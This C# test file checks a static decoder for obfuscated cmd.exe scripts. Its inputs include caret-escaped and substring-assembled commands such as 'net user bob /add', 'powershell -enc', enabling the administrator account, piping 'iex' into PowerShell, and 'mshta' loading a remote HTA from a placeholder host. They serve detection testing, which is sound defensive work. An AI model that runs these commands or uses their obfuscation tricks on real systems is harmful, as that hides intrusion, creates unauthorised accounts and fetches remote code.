namespace Stemma.Decoding.Tests;

/// <summary>The language of cmd.exe, followed without running it.</summary>
public sealed class CmdDecoderTests
{
    // A script that comes down to one command has that command as its layer, and not a second time as what it evaluates to.
    private static string Evaluated(string text)
    {
        IReadOnlyList<Layer> layers = Decoder.Decode(text, ScriptKind.Cmd).Layers;
        return (layers.FirstOrDefault(layer => layer.Step == "evaluated") ?? layers.FirstOrDefault(layer => layer.Parent == 0))?.Text ?? text;
    }

    private static IEnumerable<(ScriptKind, string)> Handed(string text) =>
        Decoder.Decode(text, ScriptKind.Cmd).Layers.Where(layer => layer.Parent == 0 && layer.Step != "evaluated").Select(layer => (layer.Kind, layer.Text));

    [Theory]
    [InlineData("n^e^t us^er", "net user")]
    [InlineData("echo a^&b", "echo a^&b")] // A caret that guards a sign hides nothing.
    [InlineData("set a=net&&set b=user&&call %a% %b%", "net user")]
    [InlineData("set x=resu ten&&for /L %i in (7,-1,0) do set y=!y!!x:~%i,1!&&if %i==0 call %y:~-8%", "net user")]
    [InlineData("set x=abc&&for %i in (2,0) do set y=!y!!x:~%i,1!&&if %i equ 0 dir !y:~-2!", "dir ca")]
    [InlineData("set x=nQt usQr&&set y=!x:Q=e!&&call %y%", "net user")]
    [InlineData("%PUBLIC:~4,1%^et^stat", "setstat")]
    [InlineData("FOR /F \"delims==f tokens=2\" %a IN ('assoc .cmd') DO %a", "cmd")]
    [InlineData("for /f \"tokens=2 delims=fs\" %a in ('ftype^|find \"mdf\"') do echo %~a", "echo ile=\"%1\" %*")]
    [InlineData("set /a \"x=(7*3)<<1, y=x-0x2\" & call echo %x% %y%", "echo 42 40")]
    [InlineData("if \"a\"==\"A\" (dir) else ver", "if \"a\"==\"A\" (dir) else ver")]
    [InlineData("set a=1&if /i %OS:~0,3% equ WIN dir !a!", "dir 1")]
    [InlineData("set \"a=b c\" & call dir \"%a%\"", "dir \"b c\"")]
    public void What_is_put_together_comes_out_whole(string text, string expected) =>
        Assert.Equal(expected, Evaluated(text).Trim());

    [Theory]
    [InlineData("cmd /V:ON/C\"set x=resu&&echo hi\"", ScriptKind.Cmd, "set x=resu&&echo hi")]
    [InlineData("cmd junk/vON more/r\"net user\"", ScriptKind.Cmd, "net user")]
    [InlineData("echo net user| cmd", ScriptKind.Cmd, "net user")]
    [InlineData("set a=power&&call %a%shell -enc AAAA", ScriptKind.CommandLine, "powershell -enc AAAA")]
    [InlineData("start \"\" /min mshta http://a.example/x.hta", ScriptKind.CommandLine, "mshta http://a.example/x.hta")]
    [InlineData("(echo iex 1)|po^wershell -", ScriptKind.CommandLine, "powershell -")]
    public void What_would_be_started_is_handed_on(string text, ScriptKind kind, string expected) =>
        Assert.Contains((kind, expected), Handed(text).Select(each => (each.Item1, each.Item2.Trim())));

    [Fact]
    public void Delayed_expansion_leaves_a_name_that_nothing_set() => Assert.Contains("echo Hello!World!1", Evaluated("set a=1&&echo Hello!World!!a!"));

    [Fact]
    public void Values_of_the_user_are_not_known_and_stay() => Assert.Equal("dir %TEMP%\\x %APPDATA:~0,12% g", Evaluated("dir %TEMP%\\x %APPDATA:~0,12% %APPDATA:~-1%"));

    [Fact]
    public void A_condition_that_is_not_known_is_followed_both_ways()
    {
        string text = Evaluated("set x=a&&if exist c:\\y (set x=b&&c^url http://one) else wget http://two & call echo %x%");
        Assert.Contains("curl http://one", text, StringComparison.Ordinal);
        Assert.Contains("wget http://two", text, StringComparison.Ordinal);
    }

    [Fact]
    public void A_batch_file_is_followed_over_labels_and_calls()
    {
        string text = Evaluated("""
            @echo off
            set p=pow
            call :go ershell -enc
            goto :eof
            :go
            %p%%1 %2 %p:~0,1%
            exit /b
            """);
        Assert.Equal("powershell -enc p", text);
    }

    [Fact]
    public void Names_that_nothing_defines_are_nothing_between_letters() => Assert.Equal("powershell -c %JAVA_HOME%\\x", Evaluated("@echo off\npo%qwe%wer%rty%shell -c %JAVA_HOME%\\x"));

    [Theory]
    [InlineData("@echo off\r\nset DIR=C:\\tools\r\nif not exist %DIR% mkdir %DIR%\r\ncopy /y a.txt %DIR%\\a.txt\r\nfor %%f in (*.log) do del %%f\r\n")]
    [InlineData("net user administrator /active:yes")]
    [InlineData("dir c:\\ & echo done & ver")]
    [InlineData("ping -n 3 127.0.0.1 > nul && del \"%TEMP%\\x.tmp\"")]
    public void A_plain_script_comes_out_as_itself(string text) => Assert.Single(Decoder.Decode(text, ScriptKind.Cmd).Layers);

    [Fact]
    public void Commands_are_told_with_their_arguments_and_places()
    {
        DecodedArtifact artifact = Decoder.Decode("set u=user&&call net %u% bob /add", ScriptKind.Cmd);
        DecodedCall call = Assert.Single(artifact.Calls);
        Assert.Equal(("net", "user bob /add"), (call.Name, string.Join(' ', call.Arguments)));
        Assert.Equal("net user bob /add", artifact.Layers[call.Layer].Text.Substring(call.Start, call.Length));
    }

    [Theory]
    [InlineData("for /l %i in (1,1,1000000000) do set a=!a!x")]
    [InlineData("set a=xxxxxxxx&for /l %i in (1,1,100) do call set a=%a%%a%%a%%a%")]
    [InlineData("for /l %i in (0,0,1) do for /l %j in (0,0,1) do set /a x=1")]
    [InlineData("@echo off\n:a\nset x=%x%y\ngoto a")]
    [InlineData("@echo off\n:a\ncall :a\ncall :a")]
    [InlineData("@echo off\nfor %%a in (x\ny)")] // A loop without a body, whose beginning is gone when that shows.
    [InlineData("@echo off\n(for %%a in (x\ny) ^")]
    public void Endless_scripts_end(string text) => Ends(text);

    [Fact]
    public void Deep_nesting_and_long_lines_end()
    {
        Ends(new string('(', 200_000));
        Ends("set /a x=" + new string('(', 200_000) + "1");
        Ends(string.Concat(Enumerable.Repeat("if 1==1 ", 100_000)) + "dir");
        Ends(string.Concat(Enumerable.Repeat("%a:b=", 100_000)));
        Ends(string.Concat(Enumerable.Repeat("call ", 100_000)) + "dir");
        Ends(string.Concat(Enumerable.Repeat("echo a|", 50_000)) + "cmd");
        Ends("set a=1&&echo " + string.Concat(Enumerable.Repeat("!a:", 100_000)));
    }

    private static void Ends(string text)
    {
        var watch = System.Diagnostics.Stopwatch.StartNew();
        Decoder.Decode(text, ScriptKind.Cmd);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(4), $"{watch.Elapsed} for {text[..Math.Min(60, text.Length)]}");
    }
}
